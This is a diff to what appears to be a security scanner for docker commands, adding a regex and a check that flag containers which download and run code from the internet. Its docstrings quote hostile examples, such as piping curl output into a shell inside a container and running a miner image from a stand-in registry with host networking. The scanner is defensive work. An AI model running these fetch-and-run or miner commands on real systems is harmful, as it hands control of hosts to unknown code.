@@ -44,6 +44,21 @@ def mounted_command(
         ctx.run_code(literal(changed), by)
 
 
+# `curl URL | sh`, `wget -qO- URL | bash`, `sh -c "$(curl URL)"` written in a container's command.
+_FETCH_AND_RUN = re.compile(
+    r"\b(?:curl|wget|fetch)\b[^|;&\n]{0,300}\|\s*(?:sudo\s+)?(?:ba|da|z|k|a)?sh\b|"
+    r"\b(?:ba|da|z|k|a)?sh\s+-c\s+[\"']?\$\(\s*(?:curl|wget)\b"
+)
+
+
+def contained_download(program: list[str], by: Command, ctx: Context) -> None:
+    """`docker run alpine sh -c 'curl URL | sh'`: code from the internet runs in a container;
+    the container keeps what it is given (the network, mounts, a token) to do harm with."""
+    if program and _FETCH_AND_RUN.search(" ".join(program)[:4000]):
+        reason = "runs code downloaded from the internet inside a container, unchecked"
+        ctx.add(HIGH, reason, by)
+
+
 def unknown_registry(image: str, options: list[str], by: Command, ctx: Context) -> None:
     """`docker run -d --restart=always --network host evil.example/miner`: an image from a
     registry nobody knows, kept running for good or given the host's network."""
